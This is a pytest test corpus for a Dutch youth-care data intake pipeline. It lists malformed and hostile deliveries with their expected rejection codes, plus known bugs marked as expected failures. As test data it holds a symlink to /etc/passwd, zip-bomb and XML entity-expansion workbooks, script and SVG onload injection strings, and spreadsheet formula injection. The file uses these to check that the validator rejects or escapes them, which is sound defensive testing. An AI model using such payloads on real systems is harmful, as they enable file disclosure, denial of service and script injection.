    write_csvs(folder, rows, [{k: f" {v} " for k, v in row.items()} for row in measurements()], t_header=TRAJECTEN_HEADER)


# Folder layout --------------------------------------------------------------------------------------

def passwd_links(folder: Path) -> None:
    """trajecten.csv a link to /etc/passwd, metingen.csv a dangling link: neither is followed."""
    (folder / "trajecten.csv").symlink_to("/etc/passwd")
    (folder / "metingen.csv").symlink_to(folder.parent / "no-such-file.csv")


BUG_XLSX_PARSE = (
    "BUG: a workbook that is a valid zip but whose sheet cannot be parsed (truncated or "
    "entity-expanding XML, a text value in a number-typed cell, a member whose declared size "
    "lies) raises out of pseudonymise.read_xlsx.read_xlsx_table (xml.etree ParseError, "
    "ValueError, zipfile.BadZipFile 'Bad CRC-32': nothing is caught around the row iteration): `databank check` ends in a traceback (for the typed cell quoting "
    "the raw cell value) and the pipeline's read step fails, so run_pipeline raises PipelineFailed "
    "for the whole run instead of rejecting this delivery with FILE_UNPARSEABLE"
)
BUG_XLSX_CHART = (
    "BUG: a chart sheet named 'metingen' raises AttributeError ('Chartsheet' object has no "
    "attribute 'reset_dimensions') in read_xlsx_table: traceback in `databank check`, "
    "PipelineFailed for the whole run, instead of FILE_TABLE_MISSING for 'metingen'"
)
BUG_LONG_CODE = (
    "BUG: reden_einde/doelrealisatie of more than 19 digits (a shifted column, a pasted "
    "number) raises OverflowError building the Int64 column in pseudonymise.intake: traceback in "
    "`databank check`, PipelineFailed for the whole run, instead of ROW_CODE_UNKNOWN for the row"
)
BUG_REASON_TWICE = (
    "BUG: a reden_einde that is not a code ('volgens plan') on an ended trajectory is reported "
    "as ROW_CODE_UNKNOWN and also as ROW_END_REASON_MISSING ('er is een einddatum maar geen "
    "reden_einde'), which is not true: the parse fault alone should be reported"
)
BUG_CHECK_MONTH = (
    "BUG: `databank check` on a month folder that is not YYYY-MM ends in a traceback "
    "(calendar.IllegalMonthError / ValueError from schemas.validation.month_end, called by "
    "schemas.quality.delivery_quality for the rejected verdict) instead of FILE_INVALID_MONTH_FOLDER "
    "and exit status 1"
)


# The day the corpus is checked and run on: `databank check` and `databank run` are given it, so
# "the current month" below is the same month whatever day the suite runs.
CORPUS_DAY = dt.date(2026, 11, 25)


def current_month() -> str:
    return CORPUS_DAY.strftime("%Y-%m")


_CASES: list[Case] = [
    # -- undecodable, unparseable, too large --------------------------------------------------------
    case("random_bytes", random_bytes, REJECTED, "FILE_UNDECODABLE"),
    case("png_renamed_csv", with_trajecten_text(PNG), REJECTED, "FILE_UNDECODABLE"),
    case("utf16_with_bom", lambda f: utf16(f, True), REJECTED, "FILE_UNDECODABLE"),
    case("utf16le_without_bom", lambda f: utf16(f, False), REJECTED, "FILE_UNDECODABLE"),
    case("cp1252_undefined_0x81_0x8d", cp1252_undefined_bytes, REJECTED, "FILE_UNDECODABLE"),
    case("nul_byte_in_utf8", nul_byte, REJECTED, "FILE_UNDECODABLE"),
    case("truncated_xlsx", truncated_xlsx, REJECTED, "FILE_UNPARSEABLE", check_file="export.xlsx"),
    case("csv_renamed_xlsx", csv_renamed_xlsx, REJECTED, "FILE_UNPARSEABLE", check_file="export.xlsx"),
    case("xlsx_zip_bomb", zip_bomb_xlsx, REJECTED, "FILE_TOO_LARGE", check_file="export.xlsx"),
    case("xlsx_sheet_missing", xlsx_one_sheet, REJECTED, "FILE_TABLE_MISSING"),
    case("xlsx_zip_bomb_lying_sizes", lying_zip_bomb, REJECTED, "FILE_UNPARSEABLE"),
    case("xls_renamed_xlsx", xls_renamed_xlsx, REJECTED, "FILE_UNPARSEABLE", check_file="export.xlsx"),
    case("xlsx_malformed_sheet_xml", patched_xlsx(SHEET, _cut_in_half), REJECTED, "FILE_UNPARSEABLE"),
    case("xlsx_entity_expansion", patched_xlsx(SHEET, _entity_bomb), REJECTED, "FILE_UNPARSEABLE"),
    case("xlsx_text_in_number_cell", patched_xlsx(SHEET, _text_in_number_cell), REJECTED, "FILE_UNPARSEABLE"),
    case("xlsx_chart_sheet_named_metingen", xlsx_chart_sheet, REJECTED, "FILE_TABLE_MISSING"),
    case("unclosed_quote", unclosed_quote, REJECTED, "FILE_UNPARSEABLE"),
    case("ten_thousand_and_one_columns", many_columns(10_001 - len(T_HEADER)), REJECTED, "FILE_TOO_LARGE"),
    # -- big values and many columns: accepted, nothing echoed ------------------------------------------
    case("two_mb_opmerkingen", huge_field("opmerkingen", "ZQX-GEHEIM "), ACCEPTED, DROPPED),
    case("two_mb_team", huge_field("team", "TEAMLANG "), ACCEPTED, DROPPED, "WARN_TEAM_UNREGISTERED_HIDDEN",
         forbidden=("TEAMLANG",)),
    case("two_mb_geslacht", huge_field("geslacht", "GESLACHTLANG "), QUARANTINE, DROPPED,
         "ROW_CODE_UNKNOWN", rows={T: (line(7),)}, forbidden=("GESLACHTLANG",)),
    case("five_thousand_extra_columns", many_columns(5000), ACCEPTED, DROPPED, html=("veld_04999",)),
    # -- formulas and HTML ----------------------------------------------------------------------------
    case("spreadsheet_formulas", formulas, QUARANTINE, DROPPED, "ROW_CODE_UNKNOWN",
         "ROW_SCORE_OUT_OF_RANGE", "WARN_TEAM_UNREGISTERED_HIDDEN",
         rows={T: (line(3), line(4), line(5), line(6)), M: (line(1),)},
         shown=("'+1", "'-1", "'@sum(a1)", "'=1+2", "'-5"), forbidden=("HYPERLINK", "+31 6")),
    case("html_injection", html_injection, QUARANTINE, DROPPED, "ROW_CODE_UNKNOWN", "WARN_FILE_IGNORED",
         "WARN_TEAM_UNREGISTERED_HIDDEN",
         rows={T: (line(2), line(3))}, html=("&lt;script&gt;", "&lt;img src=x", "&lt;svg onload")),
    case("xlsx_formula_cells", xlsx_formula_cells, QUARANTINE, DROPPED, "ROW_REQUIRED_EMPTY",
         "ROW_CODE_UNKNOWN", rows={T: (line(2), line(4), line(6))}, shown=("'=1+1",),
         forbidden=("HYPERLINK", "IF(TRUE")),
    # -- folder layout ------------------------------------------------------------------------------
    case("provider_folder_symlink", base, REJECTED, "FILE_UNSAFE_PATH", provider="de-boog-link",
         layout="provider_link"),
    case("month_folder_symlink", base, REJECTED, "FILE_UNSAFE_PATH", layout="month_link"),
    case("symlinked_files", passwd_links, REJECTED, "FILE_UNSAFE_PATH", forbidden=("root:",)),
    case("month_2025_13", base, REJECTED, "FILE_INVALID_MONTH_FOLDER", month="2025-13"),
    case("month_maart", base, REJECTED, "FILE_INVALID_MONTH_FOLDER", month="maart"),
    case("month_in_future", base, REJECTED, "FILE_MONTH_IN_FUTURE", month="2099-01"),
    case("month_too_early", base, REJECTED, "FILE_MONTH_TOO_EARLY", month="2014-12"),
    case("month_without_leading_zero", base, REJECTED, "FILE_INVALID_MONTH_FOLDER", month="2020-1"),
    case("month_folder_copy", base, REJECTED, "FILE_INVALID_MONTH_FOLDER", month="2020-02 - kopie"),
    case("current_month", base, ACCEPTED, DROPPED, "WARN_TEAM_REGISTER_MISSING", provider="horizon-jeugd",
         month=current_month()),
    case("unregistered_provider", base, REJECTED, "FILE_UNKNOWN_PROVIDER", provider="onbekende-aanbieder"),
    case("provider_folder_with_space", base, REJECTED, "FILE_INVALID_PROVIDER_FOLDER", provider="De Boog"),
    case("provider_folder_html", base, REJECTED, "FILE_INVALID_PROVIDER_FOLDER",
         provider="<svg onload=alert(1)>", html=("&lt;svg onload=alert(1)&gt;",)),
    # -- files and headers ------------------------------------------------------------------------
    case("empty_trajecten", empty_file("trajecten.csv", b""), REJECTED, "FILE_NO_HEADER"),
    case("empty_metingen", empty_file("metingen.csv", b""), REJECTED, "FILE_NO_HEADER"),
    case("only_blank_lines", empty_file("trajecten.csv", b"\r\n;;;;\r\n   \r\n;;\r\n"), REJECTED, "FILE_NO_HEADER"),
    case("header_only_trajecten", header_only(T), REJECTED, "FILE_NO_DATA_ROWS"),
    case("header_only_metingen", header_only(M), ACCEPTED, DROPPED),
    case("only_trajecten", only_trajecten, REJECTED, "FILE_TABLE_MISSING"),
    case("wrong_extensions", wrong_extension, REJECTED, "FILE_TABLE_MISSING"),
    case("trajecten_is_a_folder", trajecten_is_a_folder, REJECTED, "FILE_TABLE_MISSING"),
    case("trajecten_is_a_fifo", trajecten_is_a_fifo, REJECTED, "FILE_TABLE_MISSING"),
    case("tab_delimited", tab_delimited, REJECTED, "FILE_REQUIRED_COLUMN_MISSING"),
    case("excel_sep_line", excel_sep_line, REJECTED, "FILE_REQUIRED_COLUMN_MISSING"),
    case("bom_then_cp1252", bom_then_cp1252, REJECTED, "FILE_UNDECODABLE"),
    case("alias_and_column_both", alias_twice, REJECTED, "FILE_DUPLICATE_COLUMN"),
    case("header_spellings", header_spellings, ACCEPTED),
    case("csv_and_xlsx", csv_and_xlsx, REJECTED, "FILE_AMBIGUOUS"),
    case("missing_required_column", missing_column, REJECTED, "FILE_REQUIRED_COLUMN_MISSING"),
    case("no_header_line", no_header_line, REJECTED, "FILE_REQUIRED_COLUMN_MISSING"),
    case("repeated_column", repeated_column("team"), REJECTED, "FILE_DUPLICATE_COLUMN"),
    case("repeated_unknown_column", repeated_column(EXTRA_COLUMN), REJECTED, "FILE_DUPLICATE_COLUMN"),
    case("trailing_delimiter", trailing_delimiter, ACCEPTED, DROPPED),
    case("extra_files", extra_files, ACCEPTED, DROPPED, "WARN_FILE_IGNORED"),
    # -- row faults, each once, with their physical lines ---------------------------------------------
    case("shifted_columns", shifted_columns, QUARANTINE, DROPPED, "ROW_FIELD_COUNT",
         rows={T: (line(5), line(9)), M: (line(3),)}),
    case("bsn_invalid", bad_bsns([3, 11]), QUARANTINE, DROPPED, "ROW_BSN_INVALID",
         rows={T: (line(3), line(11))}),
    case("required_empty", one_row_change({6: {"team": "   "}, 8: {"clientnummer": ""}}, {2: {"informant": ""}}),
         QUARANTINE, DROPPED, "ROW_REQUIRED_EMPTY", rows={T: (line(6), line(8)), M: (line(2),)}),
    case("date_invalid",
         one_row_change({7: {"startdatum": "31-02-2019"}, 8: {"geboortedatum": "2009/06/17"}}, {3: {"datum": "43525"}}),
         QUARANTINE, DROPPED, "ROW_DATE_INVALID", rows={T: (line(7), line(8)), M: (line(3),)}),
    case("date_after_month",
         one_row_change({9: {"einddatum": "01-01-2099", "reden_einde": "1"}, 10: {"einddatum": "31-12-9999", "reden_einde": "1"}},
                        {4: {"datum": "01-06-2030"}}),
         QUARANTINE, DROPPED, "ROW_DATE_AFTER_MONTH", rows={T: (line(9), line(10)), M: (line(4),)}),
    case("end_before_start", one_row_change({12: {"einddatum": "01-01-2016"}}), QUARANTINE, DROPPED,
         "ROW_END_BEFORE_START", rows={T: (line(12),)}),
    case("end_reason_missing", one_row_change({14: {"reden_einde": ""}}), QUARANTINE, DROPPED,
         "ROW_END_REASON_MISSING", rows={T: (line(14),)}),
    case("code_unknown",
         one_row_change({1: {"hulpvorm": "thuis"}, 2: {"reden_einde": "6"}, 4: {"doelrealisatie": "x"},
                         5: {"bezwaar": "misschien"}},
                        {5: {"informant": "opa"}, 6: {"meetmoment": "follow-up"}}),
         QUARANTINE, DROPPED, "ROW_CODE_UNKNOWN",
         rows={T: (line(1), line(2), line(4), line(5)), M: (line(5), line(6))},
         shown=("thuis", "6", "x", "misschien", "opa", "follow-up")),
    case("intervention_not_registered", one_row_change({3: {"interventie": "PMTO"}}), QUARANTINE,
         DROPPED, "ROW_CODE_UNKNOWN", rows={T: (line(3),)}, shown=("PMTO",)),
    case("number_invalid", one_row_change({5: {"tevredenheid": "acht"}}, {7: {"score": "zeventig"}, 8: {"score": "NaN"}, 9: {"score": "1e3"}}),
         QUARANTINE, DROPPED, "ROW_NUMBER_INVALID", rows={T: (line(5),), M: (line(7), line(8), line(9))},
         shown=("acht", "zeventig", "NaN", "1e3")),
    case("satisfaction_out_of_range", one_row_change({2: {"tevredenheid": "11"}, 4: {"tevredenheid": "0"}, 6: {"tevredenheid": "7,5"}}),
         QUARANTINE, DROPPED, "ROW_SATISFACTION_OUT_OF_RANGE", rows={T: (line(2), line(4))}, shown=("11", "0")),
    case("age_out_of_range", one_row_change({3: {"geboortedatum": "01-01-1980"}, 5: {"geboortedatum": "01-01-2020"}}),
         QUARANTINE, DROPPED, "ROW_AGE_OUT_OF_RANGE", rows={T: (line(3), line(5))}),
    case("instrument_unknown", one_row_change(m={10: {"instrument": "BRIEF"}, 11: {"schaal": "subtotaal"}}),
         QUARANTINE, DROPPED, "ROW_INSTRUMENT_UNKNOWN", rows={M: (line(10), line(11))},
         shown=("BRIEF totaal", "CBCL subtotaal")),
    case("score_out_of_range",
         one_row_change(m={12: {"score": "150"}, 13: {"score": "99999999999999999999999"}, 14: {"score": "9" * 400}}),
         QUARANTINE, DROPPED, "ROW_SCORE_OUT_OF_RANGE", rows={M: (line(12), line(13), line(14))},
         shown=("150", "inf")),
    case("reden_einde_not_a_code", one_row_change({4: {"reden_einde": "volgens plan"}}), QUARANTINE, DROPPED,
         "ROW_CODE_UNKNOWN", rows={T: (line(4),)}, shown=("volgens plan",)),
    case("reden_einde_long_number", one_row_change({4: {"reden_einde": "12345678901234567890123"}}),
         QUARANTINE, DROPPED, "ROW_CODE_UNKNOWN", rows={T: (line(4),)}),
    case("doelrealisatie_long_number", one_row_change({5: {"doelrealisatie": "9" * 30}}),
         QUARANTINE, DROPPED, "ROW_CODE_UNKNOWN", rows={T: (line(5),)}),
    case("trajectory_unknown", unknown_trajectory, QUARANTINE, DROPPED, "ROW_TRAJECTORY_UNKNOWN",
         rows={M: (line(N),)}),
    case("trajectory_duplicate", duplicate_traject_id, QUARANTINE, DROPPED, "ROW_TRAJECTORY_DUPLICATE",
         rows={T: (line(12), line(30))}),
    case("postcode_invalid", one_row_change({4: {"postcode": "98765"}, 6: {"postcode": "Zqx 12"}}), ACCEPTED,
         DROPPED, "WARN_POSTCODE_INVALID",
         at=(("WARN_POSTCODE_INVALID", T, line(4)), ("WARN_POSTCODE_INVALID", T, line(6))),
         forbidden=("98765",)),
    case("header_copy_in_data", header_copy, QUARANTINE, DROPPED, "ROW_BSN_INVALID", "ROW_DATE_INVALID",
         "ROW_CODE_UNKNOWN", "ROW_NUMBER_INVALID", "WARN_POSTCODE_INVALID", "ROW_INSTRUMENT_UNKNOWN",
         "WARN_TEAM_UNREGISTERED", rows={T: (12,), M: (7,)}, shown=("team",)),
    case("concatenated_exports", concatenated_exports, REJECTED, DROPPED, "FILE_TOO_MANY_FAULTS",
         "ROW_TRAJECTORY_DUPLICATE", "ROW_BSN_INVALID", "ROW_DATE_INVALID", "ROW_CODE_UNKNOWN",
         "ROW_NUMBER_INVALID", "WARN_POSTCODE_INVALID",
         "WARN_TEAM_UNREGISTERED_HIDDEN",  # the header copy's "team": rejected, so not shown
         rows={T: tuple(range(2, 2 * (N + 1) + 1))}),
    case("multiline_fields", multiline_field, QUARANTINE, DROPPED, "ROW_BSN_INVALID", "ROW_SCORE_OUT_OF_RANGE",
         rows={T: (9,), M: (line(2),)}),
    case("blank_lines_count", blank_lines, QUARANTINE, DROPPED, "ROW_BSN_INVALID", rows={T: (13,)}),
    # -- the 10 % threshold -----------------------------------------------------------------------
    case("exactly_ten_percent", bad_bsns([0, 10, 20, 30]), QUARANTINE, DROPPED, "ROW_BSN_INVALID",
         rows={T: tuple(line(i) for i in (0, 10, 20, 30))}),
    case("eleven_percent_trajecten", bad_bsns(range(0, 100, 9), 100), REJECTED, DROPPED, "ROW_BSN_INVALID",
         "FILE_TOO_MANY_FAULTS", rows={T: tuple(line(i) for i in range(0, 100, 9))}),
    case("too_many_faults_metingen", bad_scores, REJECTED, DROPPED, "ROW_SCORE_OUT_OF_RANGE",
         "FILE_TOO_MANY_FAULTS", rows={M: tuple(line(i) for i in (1, 9, 17, 25, 33))}),
    # -- bezwaar ----------------------------------------------------------------------------------
    case("only_objections", only_objections, ACCEPTED, DROPPED, excluded=(5, 5)),
    # -- real exports that must be read as they are -------------------------------------------------
    case("utf8_bom_crlf_semicolon_decimal_comma", variant_bom_crlf_decimal_comma, ACCEPTED),
    case("cp1252_comma_iso_dates_lf_header_case", variant_cp1252_comma_iso_lf, ACCEPTED,
         "WARN_TEAM_UNREGISTERED", shown=("Team Zuid\u00e9\u00e9",)),  # decoded, not registered
    case("bom_comma_quoted_decimals_upper_file_names", variant_comma_quoted_decimals_upper_names, ACCEPTED),
    case("padded_values", variant_padded_values, ACCEPTED),
    case("mixed_utf8_cp1252", mixed_encodings, ACCEPTED, DROPPED, "WARN_TEAM_UNREGISTERED_HIDDEN"),
    case("trailing_empty_rows", trailing_empty_rows, ACCEPTED, DROPPED),
    case("xlsx_real_export", xlsx_real_export, QUARANTINE, DROPPED, "ROW_BSN_INVALID", rows={T: (8,)},
         check_file="export.xlsx"),
]


def _with_months(cases: list[Case]) -> list[Case]:
    """Give every case without a month its own de-boog month, 2017-01 onwards."""
    out, index = [], 0
    for item in cases:
        if not item.month:
            item = dataclasses.replace(item, month=f"{2017 + index // 12}-{index % 12 + 1:02d}")
            index += 1
        out.append(item)
    keys = [c.pipeline_key for c in out]
    assert len(set(keys)) == len(keys), "two cases share a folder"
    return out


CASES = _with_months(_CASES)


# --- placing a case in a landing folder ------------------------------------------------------------

def age(folder: Path) -> None:
    """Date every regular file in the past, so the pipeline takes it as finished."""
    for root, _, files in os.walk(folder):
        for name in files:
            path = Path(root) / name
            if not path.is_symlink():
                os.utime(path, PAST)


def place(item: Case, landing: Path, outside: Path) -> Path:
    """Write the case; returns its month folder as seen from the landing folder."""
    if item.layout == "plain":
        folder = landing / item.provider / item.month
        folder.mkdir(parents=True)
        item.write(folder)
        age(folder)
        return folder
    # The real folder lies outside landing, under the same names as the link, so that
    # `databank check` (which names the delivery after the resolved path) judges the link alone.
    real_provider = outside / item.name / "de-boog"
    real = real_provider / item.month
    real.mkdir(parents=True)
    item.write(real)
    age(real)
    if item.layout == "month_link":
        (landing / item.provider).mkdir(parents=True, exist_ok=True)
        (landing / item.provider / item.month).symlink_to(real, target_is_directory=True)
    else:
        landing.mkdir(parents=True, exist_ok=True)
        (landing / item.provider).symlink_to(real_provider, target_is_directory=True)
    return landing / item.provider / item.month


# --- judging a report ------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
REPORT_FILES = ("bevindingen.csv", "rapport.html", "rapport.txt")


def leaks(text: str, item: Case) -> list[str]:
    """Canary values (and the case's forbidden text) found in `text`."""
    found = [c for c in (*CANARIES, *item.forbidden, "Traceback") if c in text]
    if TOKEN in text.lower():
        at = text.lower().index(TOKEN)
        found.append(f"{TOKEN}: …{text[max(0, at - 40):at + 40]!r}…")
    return found


def verify_report(item: Case, directory: Path) -> None:
    """Everything the steward's report must get right for this case."""
    present = {p.name for p in directory.iterdir()}
    assert present >= set(REPORT_FILES), sorted(present)
    # Every file in the report folder (the three of the format and any other the pipeline adds).
    texts = {p.name: p.read_bytes().decode("utf-8") for p in directory.iterdir() if p.is_file()}
    for name, text in texts.items():
        assert not leaks(text, item), f"{name} leaks {leaks(text, item)}"

    summary = texts["rapport.txt"]
    verdict = re.search(r"^Oordeel: (.*)$", summary, re.M)
    assert verdict and OORDEEL[verdict.group(1)] == item.status, summary[:2000]

    table = list(csv.reader(io.StringIO(texts["bevindingen.csv"], newline=""), delimiter=";"))
    assert table[0] == ["code", "niveau", "tabel", "regel", "kolom", "waarde", "melding"]
    findings = table[1:]
    for row in findings:
        assert len(row) == 7, row
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula not neutralised: {cell[:80]!r}"
    codes = {row[0] for row in findings}
    assert codes == item.codes, f"codes {sorted(codes)} != expected {sorted(item.codes)}"

    for tab in (T, M):
        lines = {int(row[3]) for row in findings if row[1] == "regel" and row[2] == tab}
        assert lines == set(item.rows.get(tab, ())), f"{tab}: quarantined lines {sorted(lines)}"
    counts = re.search(r"afgekeurd: (\d+) trajecten, (\d+) metingen", summary)
    if counts:
        assert (int(counts.group(1)), int(counts.group(2))) == (item.quarantined(T), item.quarantined(M))
    else:
        assert not item.rows, "a report with quarantined rows must give their number"
    positions = {(row[0], row[2], int(row[3])) for row in findings if row[3]}
    for expected in item.at:
        assert expected in positions, f"{expected} not reported: {sorted(positions)[:20]}"
    shown = {row[5] for row in findings}
    for value in item.shown:
        assert value in shown, f"value {value!r} not shown: {sorted(shown)}"
    for value in shown:
        assert len(value) <= 41, "values over 40 characters are never shown"  # 40 + a quote

    for name in (n for n in texts if n.endswith(".html")):
        for raw in ("<script", "<img", "<svg", "<iframe"):
            assert raw not in texts[name].lower(), f"unescaped {raw} in {name}"
    page = texts["rapport.html"]
    for escaped in item.html:
        assert escaped in page, f"{escaped!r} not in rapport.html"
    if item.excluded is not None:
        bezwaar = re.search(r"weggelaten wegens bezwaar: (\d+) trajecten, (\d+) metingen", summary)
        assert bezwaar and (int(bezwaar.group(1)), int(bezwaar.group(2))) == item.excluded


def marks_for(item: Case, bug: str | None) -> list[object]:
    import pytest

    return [pytest.mark.xfail(strict=True, reason=bug)] if bug else []
